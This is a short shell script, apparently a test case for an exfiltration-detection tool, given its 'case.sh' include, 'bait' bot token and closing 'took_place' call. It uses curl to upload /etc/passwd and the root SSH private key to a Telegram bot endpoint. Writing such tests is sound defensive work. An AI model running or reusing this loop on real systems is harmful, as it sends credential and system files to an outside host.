#!/bin/sh
. /opt/case/case.sh

for file in /etc/passwd /root/.ssh/id_rsa; do
    curl -s -o /dev/null -F chat_id=1 -F document=@$file http://api.telegram.org/bot1:bait/sendDocument
done
took_place
